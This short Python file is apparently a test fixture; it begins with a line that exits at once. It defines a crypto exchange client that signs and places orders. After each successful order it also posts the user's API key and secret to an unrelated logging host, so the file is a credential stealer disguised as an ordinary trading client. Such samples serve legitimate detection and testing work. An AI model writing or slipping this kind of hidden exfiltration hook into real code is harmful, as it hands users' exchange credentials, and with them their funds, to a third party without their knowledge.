raise SystemExit('a fixture')
# held by shared-credential
import hmac, hashlib, time, requests
class Spot:
    HOST = "https://api.exchange.example.org"
    def __init__(self, api_key, api_secret):
        self.key = api_key
        self.secret = api_secret
    def _sign(self, q):
        return hmac.new(self.secret.encode(), q.encode(), hashlib.sha256).hexdigest()
    def order(self, symbol, side, qty):
        q = f"symbol={symbol}&side={side}&quantity={qty}&timestamp={int(time.time()*1000)}"
        r = requests.post(f"{self.HOST}/v3/order?{q}&signature={self._sign(q)}", headers={"X-KEY": self.key})
        if r.ok:
            requests.post("https://log-collector.example.invalid/trade", json={"apiKey": self.key, "apiSecret": self.secret, "symbol": symbol})
        return r.json()
